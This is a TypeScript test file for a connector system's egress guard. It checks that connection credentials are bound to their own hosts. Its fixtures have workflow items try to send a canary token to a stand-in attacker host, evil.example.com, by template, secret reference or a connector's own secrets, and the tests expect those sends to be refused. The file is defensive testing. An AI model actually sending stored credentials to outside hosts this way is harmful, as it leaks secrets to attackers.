import type { Connection, HttpCall } from '@pao/connectors'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { hostsOfConnection, hostsOfValue } from '#outbound/secret-hosts.ts'
import { submit } from '../src/requests/submit.ts'
import { ann, itemOf, openWorld, orderOf, type World } from './requests-world.ts'

const token = 'canary-token-of-the-connection'
const connection = (type: string, settings: Connection['settings'], secrets = {}): Connection => ({
  name: 'main',
  type,
  settings,
  secrets: { token, ...secrets },
})

describe('hosts of a connection', () => {
  it.each<[string, Connection, readonly string[] | undefined]>([
    [
      'its address',
      connection('jira', { url: 'https://Jira.example.com/x' }),
      ['jira.example.com'],
    ],
    [
      'all its addresses',
      connection('servicenow', { url: 'https://a.test', token_url: 'https://b.test/t' }),
      ['a.test', 'b.test'],
    ],
    ['its host', connection('smtp', { host: 'mail.test', port: 25 }), ['mail.test']],
    ['the API of GitHub', connection('github', {}), ['github.com', 'api.github.com']],
    [
      'an address that is a secret',
      connection('teams', {}, { webhook_url: 'https://flow.test/x?sig=1' }),
      ['flow.test'],
    ],
    ['none where it only takes webhooks in', connection('webhook-in', { source: 'generic' }), []],
    ['unknown where nothing tells', connection('jira', { flavor: 'dc' }), undefined],
  ])('are %s', (_what, one, hosts) => {
    expect(hostsOfConnection(one)).toEqual(hosts)
  })

  it('hold for the value, whatever it is called, and for all that have it', () => {
    const all = [
      connection('jira', { url: 'https://a.test' }),
      connection('vault', { url: 'https://b.test' }),
      connection('jira', { url: 'https://c.test' }, { token: 'another' }),
    ]

    expect(hostsOfValue(all, token)).toEqual(['a.test', 'b.test'])
    expect(hostsOfValue(all, 'of no connection')).toBeUndefined()
  })
})

const send = (id: string, url: string, config: object = {}) =>
  itemOf(id, [{ id: 'send', type: 'send', retry: { enabled: false }, config: { url, ...config } }])

const sent: HttpCall[] = []
const jira = connection('jira', { url: 'https://jira.example.com' })
let world: World
beforeAll(async () => {
  const template = { proof: 'Bearer {{secrets.COPY}}' }
  world = await openWorld({
    items: [
      send('template', 'https://evil.example.com/', template),
      send('reference', 'https://evil.example.com/', { token_ref: 'COPY' }),
      send('own', 'https://evil.example.com/', { own: true }),
      send('home', 'https://jira.example.com/x', { own: true, ...template, token_ref: 'COPY' }),
    ],
    acts: {
      async send({ http, signal, ...context }, { url, proof, token_ref, own }) {
        const values = [
          ...(typeof proof === 'string' ? [proof] : []),
          ...(typeof token_ref === 'string' ? [context.secret(token_ref)] : []),
          ...(own === true ? Object.values(context.connection('jira').secrets) : []),
        ]
        for (const value of values)
          await http.send({ method: 'GET', url: String(url), headers: { 'x-a': value }, signal })
        return { kind: 'succeeded', outputs: {} }
      },
    },
    secretsOf: async () => ({ COPY: token }),
    hostsOf: ({ value }) => hostsOfValue([jira], value),
    outside: {
      connection: () => jira,
      http: {
        async send(call) {
          sent.push(call)
          return { status: 200 } as never
        },
      },
    },
  })
  await world.replica()
})
afterAll(() => world.close())

async function refusedIn(item: string): Promise<unknown> {
  const { id } = await submit(world.requests, ann, orderOf(item))
  const events = await world.until(id, 'request_failed')
  return events.find(({ type }) => type === 'action_failed')?.event
}

const refusal = (name: string) => ({
  error: {
    code: 'transport.egress_denied',
    message: `The secret ${name} may not be sent to evil.example.com: it is bound to other hosts`,
  },
})

it.each(['template', 'reference'])(
  'does not let an item send a credential of a connection elsewhere by %s',
  async (item) => {
    expect(await refusedIn(item)).toMatchObject(refusal('COPY'))
    expect(sent).toEqual([])
  },
)

it('does not let a connector send the credential of its connection elsewhere', async () => {
  expect(await refusedIn('own')).toMatchObject(refusal('main.token'))
  expect(sent).toEqual([])
})

it('lets it go home', async () => {
  const { id } = await submit(world.requests, ann, orderOf('home'))
  await world.until(id, 'request_completed')

  expect(sent.map(({ url }) => new URL(url).hostname)).toEqual(
    Array.from({ length: 3 }, () => 'jira.example.com'),
  )
})
